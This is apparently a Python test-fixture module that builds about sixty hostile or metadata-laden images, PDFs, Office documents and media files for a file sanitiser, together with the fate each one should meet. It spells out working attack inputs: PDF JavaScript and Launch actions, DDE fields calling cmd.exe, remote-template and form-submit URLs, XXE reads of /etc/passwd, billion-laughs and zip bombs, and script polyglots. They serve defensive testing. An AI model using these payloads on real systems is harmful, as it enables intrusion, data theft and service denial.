"""Sixty files as friends, careless people and attackers send them, each built here, with what must become of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import av
import pikepdf
from PIL import Image, PngImagePlugin
from pillow_heif import register_heif_opener

from tests.files import HTML, office, photo

MARK = b"ZZRAHASIA"  # what must not be in the copy
WORD = MARK.decode()
CLEAN, KIND, EMPTY, SIZE = "clean", "kind", "empty", "size"


@dataclass(frozen=True)
class Row:
    """A file and its fate: `clean`, refused on arrival (`kind`, `empty`, `size`), or refused by the cleaner for a reason of REFUSALS.

    `lacks`: what neither the copy nor anything packed into it may hold. `daily`: in every run, not only at night.
    """

    make: Callable[[], bytes]
    fate: str
    lacks: tuple[bytes, ...] = (MARK,)
    daily: bool = False


# --- pictures ---------------------------------------------------------------------------------------------------------


def picture(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **more: Any) -> bytes:
    register_heif_opener()
    made = io.BytesIO()
    Image.new(mode, size).save(made, kind, **more)
    return made.getvalue()


def told(kind: str = "JPEG") -> bytes:
    """A picture with everything that a telephone and a program write beside the pixels."""
    image = Image.new("RGB", (320, 240), "orange")
    exif = image.getexif()
    for tag in (0x010E, 0x010F, 0x0110, 0x0131, 0x013B, 0x8298):  # description, maker, model, program, artist, rights
        exif[tag] = WORD
    exif.get_ifd(0x8769)[0x9286] = WORD  # user comment
    exif.get_ifd(0x8769)[0x927C] = MARK * 20  # maker note
    exif.get_ifd(0x8769)[0xA431] = WORD  # serial number
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "S", (6.0, 12.0, 30.0), "E", (106.0, 49.0, 0.0)
    made = io.BytesIO()
    register_heif_opener()
    image.save(made, kind, exif=exif.tobytes())
    return made.getvalue()


def segments(*given: tuple[int, bytes]) -> bytes:
    """A JPEG with these marker segments behind its first two bytes."""
    plain = picture("JPEG")
    return plain[:2] + b"".join(bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content for marker, content in given) + plain[2:]


def xmp() -> bytes:
    return segments((0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><dc:creator>" + MARK + b"</dc:creator></x:xmpmeta>"))


def iptc() -> bytes:
    record = b"\x1c\x02\x50" + struct.pack(">H", len(MARK)) + MARK
    return segments((0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(record)) + record))


def thumbnail() -> bytes:
    """A small earlier picture in the EXIF, as a program leaves it that blurs only the large one."""
    small = picture("JPEG", (16, 12), comment=MARK)
    ifd = b"\0\0" + struct.pack("<I", 14) + struct.pack("<H", 2)
    ifd += struct.pack("<HHII", 0x0201, 4, 1, 44) + struct.pack("<HHII", 0x0202, 4, 1, len(small)) + b"\0" * 4
    return segments((0xE1, b"Exif\0\0II*\0" + struct.pack("<I", 8) + ifd + small))


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *more: bytes, rows: bytes = b"") -> bytes:
    """A PNG by hand: what it says of its size need not be so."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", rows or zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def png_texts() -> bytes:
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Author", WORD)
    texts.add_itxt("XML:com.adobe.xmp", f"<x>{WORD}</x>")
    texts.add_text("Comment", WORD, zip=True)
    return picture("PNG", pnginfo=texts)


def flood(megabytes: int) -> bytes:
    """Zeros without end: few bytes that unpack to very many."""
    packer = zlib.compressobj(9, wbits=-15)
    part = packer.compress(b"\0" * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + part * megabytes


def film_strip(frames: int) -> bytes:
    """An animated GIF, its frames written by hand."""
    first = picture("GIF", (2, 2), "P")
    start = first.index(b",")
    frame = first[start:-1]
    return first[:start] + b"!\xfe" + bytes([len(MARK)]) + MARK + b"\0" + frame * frames + b";"


def webp_polyglot() -> bytes:
    return picture("WEBP") + HTML + MARK


# --- PDF --------------------------------------------------------------------------------------------------------------


def paper(fill: Callable[[pikepdf.Pdf], None] = lambda _pdf: None, **save: Any) -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.docinfo["/Author"] = pdf.docinfo["/Producer"] = WORD
        fill(pdf)
        pdf.save(made, **save)
    return made.getvalue()


def note(pdf: pikepdf.Pdf, *, direct: bool = False, **more: Any) -> None:
    row = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **more)
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([row if direct else pdf.make_indirect(row)])


def script(text: str = WORD) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.alert('{text}')")


def opens(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/OpenAction"] = script()


def page_script(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=script())


def named_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/Names"] = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script()]))


def launches(pdf: pikepdf.Pdf) -> None:
    note(pdf, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"{WORD}.exe"))


def launches_inline(pdf: pikepdf.Pdf) -> None:
    note(pdf, direct=True, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"{WORD}.exe"))


def embedded(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="a.exe", EF=pikepdf.Dictionary(F=pdf.make_stream(b"MZ" + MARK))))


def attaches(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ" + MARK


def pins(pdf: pikepdf.Pdf) -> None:
    note(pdf, Subtype=pikepdf.Name.FileAttachment, FS=embedded(pdf), T=WORD)


def associates(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj["/AF"] = pikepdf.Array([embedded(pdf)])


def plays(pdf: pikepdf.Pdf) -> None:
    assets = pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=["a.swf", embedded(pdf)]))
    note(pdf, Subtype=pikepdf.Name.RichMedia, RichMediaContent=assets)


def asks(pdf: pikepdf.Pdf) -> None:
    """A form that sends what is typed, with an XFA part."""
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="nama", Rect=[0, 0, 9, 9],
            AA=pikepdf.Dictionary(K=script()), A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=f"http://{WORD}.invalid/"),
        )
    )  # fmt: skip
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([field])
    pdf.Root["/AcroForm"] = pikepdf.Dictionary(Fields=[field], XFA=pdf.make_stream(MARK))


def describes(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/Metadata"] = pdf.make_stream(b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>", Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    pdf.pages[0].obj["/PieceInfo"] = pikepdf.Dictionary(Program=pikepdf.Dictionary(Private=WORD))
    pdf.pages[0].obj["/Metadata"] = pdf.make_stream(MARK)


def photographs(pdf: pikepdf.Pdf) -> None:
    """A page that is a photo, as telephones scan: the picture's own EXIF goes along."""
    shown = pdf.make_stream(told(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=320, Height=240, BitsPerComponent=8,
                            ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.DCTDecode)  # fmt: skip
    pdf.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=shown))
    pdf.pages[0].obj["/Contents"] = pdf.make_stream(b"q 320 0 0 240 0 0 cm /Im0 Do Q")


def comments(pdf: pikepdf.Pdf) -> None:
    note(pdf, Subtype=pikepdf.Name.Text, T=WORD, NM=WORD, Contents="Lihat ini")


def crowded(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj["/Crowd"] = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(N=n)) for n in range(100_000)]))


def locked(user: str) -> bytes:
    return paper(encryption=pikepdf.Encryption(owner="pemilik", user=user))


def endless() -> bytes:
    """A tree of pages that holds itself."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    return body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF"


# --- office documents -------------------------------------------------------------------------------------------------

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CORE = (
    f'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
    f"<dc:creator>{WORD}</dc:creator><cp:lastModifiedBy>{WORD}</cp:lastModifiedBy></cp:coreProperties>"
)
TRACKED = (
    f'<w:document {W}><w:body><w:p><w:ins w:id="1" w:author="{WORD}" w:date="2026-01-01T00:00:00Z"><w:r><w:t>tetap</w:t></w:r></w:ins>'
    f'<w:del w:id="2" w:author="{WORD}"><w:r><w:delText>{WORD}</w:delText></w:r></w:del></w:p></w:body></w:document>'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def letter(**members: str | bytes) -> bytes:
    """A Word document; `__` in a name stands for a slash, `_rels` for its relations."""
    named = {name.replace("__", "/"): content for name, content in members.items()}
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": f"<w:document {W}/>", **named})


def zipped(members: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def relations(*rows: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(rows)}</Relationships>'


def authored() -> bytes:
    custom = f"<Properties><property><v>{WORD}</v></property></Properties>"
    people = f'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="{WORD}"/></w15:people>'
    said = f'<w:comments {W}><w:comment w:id="1" w:author="{WORD}" w:initials="{WORD}"><w:p/></w:comment></w:comments>'
    return letter(**{"docProps/core.xml": CORE, "docProps/app.xml": custom, "docProps/custom.xml": custom, "word/document.xml": TRACKED,
                     "word/comments.xml": said, "word/people.xml": people})  # fmt: skip


def pictured() -> bytes:
    return letter(**{"word/media/image1.jpeg": told(), "docProps/thumbnail.jpeg": told()})


def sheet(**members: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", **members})


def printed() -> bytes:
    """A table as Excel keeps it when its page was set up: the printer's own bytes lie beside it."""
    rows = relations(f'<Relationship Id="rId1" Type="{RELATION}/printerSettings" Target="../printerSettings/printerSettings1.bin"/>')
    page = f'<worksheet xmlns:r="{RELATION}"><sheetData/><pageSetup paperSize="9" r:id="rId1"/></worksheet>'
    members: dict[str, str | bytes] = {"xl/worksheets/sheet1.xml": page, "xl/worksheets/_rels/sheet1.xml.rels": rows}
    return sheet(**members, **{"xl/printerSettings/printerSettings1.bin": MARK})


def open_document(**members: str | bytes) -> bytes:
    meta = f"<office:document-meta {ODF}><office:meta><dc:creator>{WORD}</dc:creator></office:meta></office:document-meta>"
    content = f"<office:document-content {ODF}/>"
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content, "meta.xml": meta, **members})


ODF = " ".join(
    f'xmlns:{name}="{address}"'
    for name, address in {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
        "dc": "http://purl.org/dc/elements/1.1/",
    }.items()
)


def reaching(content: str) -> bytes:
    return open_document(**{"content.xml": f"<office:document-content {ODF}>{content}</office:document-content>"})


def template(quote: str = '"', encoding: str = "utf-8") -> bytes:
    """A document whose template lies on somebody else's server."""
    row = f'<Relationship Id="rId1" Type="{RELATION}/attachedTemplate" Target="http://{WORD}.invalid/a.dotm" TargetMode="External"/>'
    head = "" if encoding == "utf-8" else f'<?xml version="1.0" encoding="{encoding}"?>'
    return letter(**{"word/_rels/settings.xml.rels": (head + relations(row)).replace('"', quote).encode(encoding)})


def linked() -> bytes:
    """A document with an ordinary hyperlink, which it may have."""
    row = f'<Relationship Id="rId1" Type="{RELATION}/hyperlink" Target="https://contoh.invalid/" TargetMode="External"/>'
    return letter(**{"word/_rels/document.xml.rels": relations(row)})


def dde() -> bytes:
    """A field that starts a program, its name cut in two."""
    field = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"
    return letter(**{"word/document.xml": f"<w:document {W}><w:p>{field}</w:p></w:document>"})


def asking() -> bytes:
    return sheet(**{"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})


def entities() -> bytes:
    """The billion laughs, and a file of the server."""
    nested = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return letter(**{"word/document.xml": f'<!DOCTYPE d [<!ENTITY a0 "ha">{nested}<!ENTITY f SYSTEM "file:///etc/passwd">]><d>&a9;&f;</d>'})


def bomb(members: int, size: int) -> bytes:
    return letter(**{f"word/media/{n}.xml": b"\0" * size for n in range(members)})


def nested_bomb() -> bytes:
    inner = zipped({f"{n}": b"\0" * 3_000_000 for n in range(9)})
    return zipped({f"{n}.zip": inner for n in range(9)})


def guarded() -> bytes:
    """An archive that says its members are encrypted."""
    raw = bytearray(letter())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = raw.find(sign)
        while start >= 0:
            raw[start + at] |= 1
            start = raw.find(sign, start + 4)
    return bytes(raw)


# --- sound and film ---------------------------------------------------------------------------------------------------


def recording(container: str, video: str = "", audio: str = "", *, seconds: int = 1, metadata: dict[str, str] | None = None) -> bytes:
    """Five pictures that fill so many seconds, and a second of silence."""
    made = io.BytesIO()
    with av.open(made, "w", format=container, options={"movflags": "use_metadata_tags"} if container == "mov" else {}) as out:
        out.metadata.update(metadata or {})
        film: Any = out.add_stream(video, rate=5) if video else None
        sound: Any = out.add_stream(audio, rate=48_000) if audio else None
        if film:
            film.width, film.height, film.pix_fmt = 64, 48, "yuv420p"
            _write(out, film, (_image(number * seconds) for number in range(5)))
        if sound:
            context = sound.codec_context
            context.open(strict=False)
            size = context.frame_size or 1024
            _write(out, sound, (_silence(context, size, number * size) for number in range(48_000 // size)))
    return made.getvalue()


def _write(out: Any, stream: Any, frames: Iterator[Any]) -> None:
    for frame in frames:
        out.mux(stream.encode(frame))
    out.mux(stream.encode(None))


def _image(pts: int) -> Any:
    frame = av.VideoFrame(64, 48, "yuv420p")
    for plane in frame.planes:
        plane.update(b"\x80" * plane.buffer_size)
    frame.pts = pts
    return frame


def _silence(context: Any, size: int, pts: int) -> Any:
    frame = av.AudioFrame(format=context.format.name, layout=context.layout.name, samples=size)
    for plane in frame.planes:
        plane.update(b"\0" * plane.buffer_size)
    frame.sample_rate, frame.pts = 48_000, pts
    return frame


def tagged_mp3(cover: bool) -> bytes:
    """A song with title and, as most have it, a picture of its cover."""
    sound = recording("mp3", audio="libmp3lame")
    sound = sound[10 + sum((byte & 0x7F) << (21 - 7 * at) for at, byte in enumerate(sound[6:10])) :] if sound[:3] == b"ID3" else sound
    frames = [(b"TIT2", b"\x03" + MARK), (b"COMM", b"\x03ind\0" + MARK)]
    if cover:
        frames.append((b"APIC", b"\x03image/jpeg\0\x03\0" + told()))
    body = b"".join(name + struct.pack(">I", len(content)) + b"\0\0" + content for name, content in frames)
    size = bytes((len(body) >> shift) & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + size + body + sound


def located_mp4() -> bytes:
    """A film with its place in the atoms of both telephone makers."""
    return recording("mp4", "libx264", "aac", metadata={"title": WORD, "location": "-06.2000+106.8166/", "comment": WORD})


def located_mov() -> bytes:
    return recording("mov", "libx264", metadata={"com.apple.quicktime.location.ISO6709": "-06.2000+106.8166/", "com.apple.quicktime.model": WORD})


def atom(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content) + 8) + name + content


def free_atom() -> bytes:
    """A film with a page and a program in atoms that players skip."""
    film = recording("mp4", "libx264")
    return film + atom(b"free", HTML + MARK) + atom(b"uuid", b"\0" * 16 + MARK)


def hidden_playlist() -> bytes:
    """What ffmpeg would take for a list of files to read."""
    return b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"


# --- all of them ------------------------------------------------------------------------------------------------------

GPS = (MARK, b"GPS", b"Exif")
FILES: dict[str, Row] = {
    # pictures
    "photo.jpg with place, device, maker note and comment": Row(lambda: photo(comment=MARK) + HTML, CLEAN, (*GPS, b"Kamera", b"<script"), daily=True),
    "photo.jpg with every tag": Row(told, CLEAN, GPS, daily=True),
    "photo.jpg with XMP": Row(xmp, CLEAN, (MARK, b"xmpmeta")),
    "photo.jpg with IPTC": Row(iptc, CLEAN, (MARK, b"Photoshop")),
    "photo.jpg with an earlier picture in its EXIF": Row(thumbnail, CLEAN, GPS),
    "photo.jpg with a comment of 60 KB": Row(lambda: segments((0xFE, MARK * 6500)), CLEAN),
    "photo.jpg with 200 segments of metadata": Row(lambda: segments(*[(0xE1, MARK * 7000)] * 200), CLEAN),
    "photo.jpg with a page behind its end": Row(lambda: picture("JPEG") + HTML + MARK, CLEAN, (MARK, b"<script"), daily=True),
    "photo.jpg with an archive behind its end": Row(lambda: picture("JPEG") + zipped({WORD: MARK}, zipfile.ZIP_STORED), CLEAN, (MARK, b"PK\x03\x04")),
    "photo.jpg in CMYK": Row(lambda: picture("JPEG", mode="CMYK", comment=MARK), CLEAN),
    "photo.png with texts": Row(png_texts, CLEAN),
    "photo.png with EXIF": Row(lambda: told("PNG"), CLEAN, GPS),
    "photo.webp with EXIF": Row(lambda: told("WEBP"), CLEAN, GPS),
    "photo.webp with a page behind its end": Row(webp_polyglot, CLEAN, (MARK, b"<script")),
    "photo.heic with place": Row(lambda: told("HEIF"), CLEAN, GPS, daily=True),
    "photo.avif with place": Row(lambda: told("AVIF"), CLEAN, GPS),
    "photo.tiff with place": Row(lambda: told("TIFF"), CLEAN, GPS),
    "photo.gif with a comment and 5,000 frames": Row(lambda: film_strip(5000), CLEAN),
    "photo.gif that is a script": Row(lambda: b"GIF89a=1;/*" + MARK + b"*/alert(1)" + b"\0" * 40, "unreadable"),
    "photo.bmp that is a script": Row(lambda: b"BM=1;/*" + MARK + b"*/alert(1)" + b"\0" * 60, "unreadable"),
    "strip.jpg of 1 x 60,000": Row(lambda: picture("JPEG", (1, 60_000), comment=MARK), CLEAN),
    "flood.png of 40,000 x 40,000": Row(lambda: png(40_000, 40_000), "pixels", daily=True),
    "flood.png that unpacks to 2 GB behind a small head": Row(lambda: png(64, 64, rows=flood(2000)), CLEAN),
    "flood.png with a text that unpacks to 100 MB": Row(
        lambda: png(64, 64, chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 100_000_000, 9)), rows=zlib.compress(b"\0" * 64 * 9)), "unreadable"
    ),
    "half.jpg": Row(lambda: photo()[: len(photo()) // 2], "unreadable", daily=True),
    "program.jpg": Row(lambda: b"MZ" + b"\0" * 200, KIND),
    "page.jpg": Row(lambda: b"<!doctype html>" + HTML, KIND, daily=True),
    "picture.svg": Row(lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", KIND, daily=True),
    "page.jpg behind a byte order mark": Row(lambda: b"\xef\xbb\xbf" + HTML, KIND),
    "drawing.eps": Row(lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + MARK + b") show", KIND),
    "program.sh": Row(lambda: b"#!/bin/sh\necho " + MARK, KIND),
    "nothing.jpg": Row(lambda: b"", EMPTY, daily=True),
    "zeros.jpg": Row(lambda: b"\0" * 4096, KIND),
    "huge.jpg of 21 MB": Row(lambda: picture("JPEG") + b"\0" * 21_000_000, SIZE),
    # PDF
    "paper.pdf with a script on opening": Row(lambda: paper(opens), CLEAN, (MARK, b"JavaScript"), daily=True),
    "paper.pdf with a script on a page": Row(lambda: paper(page_script), CLEAN, (MARK, b"JavaScript")),
    "paper.pdf with a named script": Row(lambda: paper(named_script), CLEAN, (MARK, b"JavaScript")),
    "paper.pdf that starts a program": Row(lambda: paper(launches), CLEAN, (MARK, b"/Launch")),
    "paper.pdf that starts a program from an inline note": Row(lambda: paper(launches_inline), CLEAN, (MARK, b"/Launch")),
    "paper.pdf with a file inside": Row(lambda: paper(attaches), CLEAN),
    "paper.pdf with a file pinned to a page": Row(lambda: paper(pins), CLEAN, daily=True),
    "paper.pdf with an associated file": Row(lambda: paper(associates), CLEAN),
    "paper.pdf with a film inside": Row(lambda: paper(plays), CLEAN),
    "paper.pdf with a form that sends": Row(lambda: paper(asks), CLEAN, (MARK, b"/SubmitForm", b"JavaScript")),
    "paper.pdf with metadata everywhere": Row(lambda: paper(describes), CLEAN),
    "paper.pdf that is a photo with place": Row(lambda: paper(photographs), CLEAN, GPS, daily=True),
    "paper.pdf with a comment by name": Row(lambda: paper(comments), CLEAN),
    "paper.pdf with 100,000 objects": Row(lambda: paper(crowded), CLEAN),
    "paper.pdf with a page behind its end": Row(lambda: paper() + HTML + MARK, CLEAN, (MARK, b"<script")),
    "paper.pdf that nobody opens without a password": Row(lambda: locked("rahasia"), "locked", daily=True),
    "paper.pdf that its owner locked": Row(lambda: locked(""), "locked"),
    "paper.pdf whose pages hold themselves": Row(endless, "unreadable"),
    # office documents
    "letter.docx with author, comment and a struck-out sentence": Row(authored, CLEAN, daily=True),
    "letter.docx with a photo with place": Row(pictured, CLEAN, GPS),
    "letter.docx with a link": Row(linked, CLEAN),
    "letter.docx with macros": Row(lambda: office(**{"word/vbaProject.bin": MARK}), "macros", daily=True),
    "letter.docx with a template from elsewhere": Row(template, "macros"),
    "letter.docx with a template from elsewhere, in single quotes": Row(lambda: template("'"), "macros"),
    "letter.docx with a template from elsewhere, in UTF-16": Row(lambda: template(encoding="utf-16"), "macros"),
    "letter.docx with a field that starts a program": Row(dde, "macros"),
    "letter.docx with a page to be drawn in": Row(lambda: letter(**{"word/afchunk.mht": HTML}), "macros"),
    "letter.docx that laughs a billion times": Row(entities, "unreadable"),
    "letter.docx that unpacks to a mountain": Row(lambda: bomb(1, 60_000_000), "mountain", daily=True),
    "letter.docx of 2,001 parts": Row(lambda: bomb(2001, 1), "mountain"),
    "letter.docx with a password": Row(guarded, "unreadable"),
    "table.xlsx whose page was set up": Row(printed, CLEAN),
    "table.xlsx that asks a program": Row(asking, "macros"),
    "letter.odt with author": Row(open_document, CLEAN),
    "letter.odt with a picture from elsewhere": Row(lambda: reaching('<draw:image xlink:href="http://contoh.invalid/a.png"/>'), "macros"),
    "letter.odt with a macro on opening": Row(lambda: reaching('<script:event-listener xlink:href="vnd.sun.star.script:a$b?language=Python"/>'), "macros"),
    "archive.zip": Row(lambda: zipped({"a.jpg": picture("JPEG")}), KIND),
    "archive.zip in an archive": Row(nested_bomb, KIND),
    "archive.docx that is an old Word file": Row(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, KIND),
    # sound and film
    "film.mp4 with place and title": Row(located_mp4, CLEAN, (MARK, b"-06.2", b"\xa9xyz", b"loci"), daily=True),
    "film.mov with place and device": Row(located_mov, CLEAN, (MARK, b"-06.2")),
    "film.mp4 with a page in an atom": Row(free_atom, CLEAN, (MARK, b"<script")),
    "film.mp4 cut off": Row(lambda: recording("mp4", "libx264")[:900], "unreadable"),
    "film.webm with a title": Row(lambda: recording("webm", "libvpx", "libopus", metadata={"title": WORD}), CLEAN),
    "film.mkv in a codec that a WebM cannot hold": Row(lambda: recording("matroska", "libx264"), "format"),
    "film.mp4 of twelve minutes": Row(lambda: recording("mp4", "libx264", seconds=900), "long"),
    "sound.mp3 with title": Row(lambda: tagged_mp3(cover=False), CLEAN, (MARK, b"TIT2")),
    "sound.mp3 with a cover": Row(lambda: tagged_mp3(cover=True), CLEAN, (MARK, b"APIC", b"Exif")),
    "sound.ogg with a title": Row(lambda: recording("ogg", audio="libopus", metadata={"title": WORD}), CLEAN),
    "sound.wav with a title": Row(lambda: recording("wav", audio="pcm_s16le", metadata={"title": WORD}), CLEAN),
    "sound.aac as telephones record": Row(lambda: recording("adts", audio="aac"), CLEAN),
    "list.m3u8": Row(hidden_playlist, KIND),
}
